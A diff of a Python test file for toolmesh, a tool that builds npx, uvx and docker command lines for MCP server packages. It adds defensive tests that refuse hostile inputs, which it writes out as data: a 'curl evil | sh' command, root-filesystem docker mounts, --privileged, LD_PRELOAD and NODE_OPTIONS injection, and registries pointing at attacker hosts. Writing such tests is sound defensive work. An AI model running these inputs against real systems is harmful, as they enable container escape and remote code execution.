@@ -98,9 +98,9 @@ def test_an_npm_package_runs_with_npx_and_its_arguments_and_environment() -> Non
         runtimeArguments=[
             {
                 "type": "named",
-                "name": "--node-options",
-                "value": "--max-old-space-size={mb}",
-                "variables": {"mb": {"default": "512"}},
+                "name": "--loglevel",
+                "value": "{level}",
+                "variables": {"level": {"default": "warn"}},
             }
         ],
         packageArguments=[
@@ -119,8 +119,7 @@ def test_an_npm_package_runs_with_npx_and_its_arguments_and_environment() -> Non
     assert got == {
         "command": "npx",
         "args": [
-            "--node-options",
-            "--max-old-space-size=512",
+            "--loglevel=warn",
             "-y",
             "@example/weather-mcp@1.2.3",
             "serve",
@@ -147,12 +146,12 @@ def test_pypi_oci_and_nuget_packages_build_their_runtimes_command_lines() -> Non
         "registryType": "oci",
         "identifier": "docker.io/example/weather:1.0",
         "transport": {"type": "stdio"},
-        "runtimeArguments": [{"type": "named", "name": "--network", "value": "host"}],
+        "runtimeArguments": [{"type": "named", "name": "--memory", "value": "512m"}],
         "environmentVariables": [{"name": "TOKEN", "isRequired": True, "isSecret": True}],
     }
     assert config(entry(oci), {"TOKEN": "t"}) == {
         "command": "docker",
-        "args": ["run", "-i", "--rm", "--network", "host", "-e", "TOKEN", "docker.io/example/weather:1.0"],
+        "args": ["run", "-i", "--rm", "--memory=512m", "-e", "TOKEN", "docker.io/example/weather:1.0"],
         "env": {"TOKEN": "t"},  # the value stays in env (sealed), docker passes it by name
     }
     assert config(entry({**oci, "runtimeHint": "podman"}), {"TOKEN": "t"})["command"] == "podman"
@@ -189,6 +188,49 @@ def test_a_package_toolmesh_cannot_run_is_refused_with_the_reason(package: dict[
     assert problem.startswith("toolmesh cannot run any package or remote of the entry: package 1")
     assert reason in problem
     assert reason in refusal(entry(package), package=1).detail
+
+
+def oci(**fields: Any) -> dict[str, Any]:
+    return {"registryType": "oci", "identifier": "example/weather:1.0", "transport": {"type": "stdio"}, **fields}
+
+
+def positional(value: str) -> dict[str, Any]:
+    return {"type": "positional", "value": value}
+
+
+def named(flag: str, value: str) -> dict[str, Any]:
+    return {"type": "named", "name": flag, "value": value}
+
+
+@pytest.mark.parametrize(
+    ("package", "reason"),
+    [
+        (oci(runtimeArguments=[positional("--privileged")]), "docker option --privileged is refused"),
+        (oci(runtimeArguments=[named("-v", "/:/host")]), "docker option -v is refused"),
+        (oci(runtimeArguments=[positional("-itv=/:/host")]), "docker option -v is refused"),
+        (oci(runtimeArguments=[positional("--network=host")]), "docker option --network is refused"),
+        (oci(runtimeArguments=[named("--env-file", "/etc/toolmesh.env")]), "docker option --env-file is refused"),
+        (oci(runtimeArguments=[positional("evil/image")]), "'evil/image' is no option"),
+        (npm(runtimeArguments=[named("-c", "curl evil | sh")]), "npx option -c is refused"),
+        (npm(runtimeArguments=[named("--package", "evil")]), "npx option --package is refused"),
+        (npm(runtimeArguments=[named("--node-options", "--import=data:,1")]), "npx option --node-options"),
+        (
+            npm(registryType="pypi", identifier="weather", runtimeArguments=[named("--index-url", "https://evil")]),
+            "uvx option --index-url is refused",
+        ),
+        (npm(environmentVariables=[{"name": "NODE_OPTIONS", "value": "--require /tmp/x.js"}]), "NODE_OPTIONS"),
+        (npm(environmentVariables=[{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]), "LD_PRELOAD"),
+        (npm(environmentVariables=[{"name": "npm_config_registry", "value": "http://evil"}]), "npm_config_registry"),
+        (oci(environmentVariables=[{"name": "DOCKER_HOST", "value": "tcp://evil:2375"}]), "DOCKER_HOST"),
+    ],
+)
+def test_an_entry_cannot_widen_what_its_runtime_runs(package: dict[str, Any], reason: str) -> None:
+    assert reason in refusal(entry(package)).detail
+
+
+def test_a_named_runtime_argument_is_one_element_so_its_value_cannot_become_the_package() -> None:
+    got = config(entry(npm(runtimeArguments=[named("--yes", "evil-package")])))
+    assert got["args"] == ["--yes=evil-package", "-y", "@example/weather-mcp@1.2.3"]
 
 
 # remotes
